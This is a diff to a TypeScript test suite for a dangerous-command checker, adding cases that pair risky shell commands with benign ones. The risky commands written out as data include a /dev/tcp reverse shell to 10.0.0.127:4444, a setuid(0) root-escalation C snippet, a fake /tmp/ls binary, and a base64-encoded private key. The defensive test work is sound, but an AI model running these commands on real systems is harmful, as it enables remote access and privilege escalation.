@@ -3942,6 +3942,18 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['net rpc password victim -U DOMAIN/user -S dc01', true, 'over the network'],
     ["net group 'Domain Admins' user /add /domain", true, 'accounts or groups'],
     ['net user', false],
+    // A program named as a system one written into the temporary directory; a build's output there is not one.
+    ["echo '#!/bin/bash' > /tmp/ls", true, 'named as a system program'],
+    ['cp build/report.txt /tmp/report.txt', false],
+    // A tool fed a file of targets; a text filter reading one.
+    ['cat urls.txt | smugglex --exit-first', true, 'sites or hosts listed in urls.txt'],
+    ['cat hosts.txt | sort -u', false],
+    // A socket opened on a descriptor, code that makes itself root, a private key, each written out.
+    ['echo "0<&209-;exec 209<>/dev/tcp/10.0.0.127/4444;sh <&209 >&209 2>&209" > rshell.sh', true, 'reverse shell'],
+    ['echo \'void _init() { setuid(0); system("/bin/bash"); }\' > exploit.c', true, 'makes itself root'],
+    ['echo \'int main() { puts("hi"); }\' > hello.c', false],
+    ["echo 'LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JR0hBZ0VBTUJNR0J5' | base64 -d > cluster.key", true, 'private key written out'],
+    ["grep -rn 'BEGIN PRIVATE KEY' src/", false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
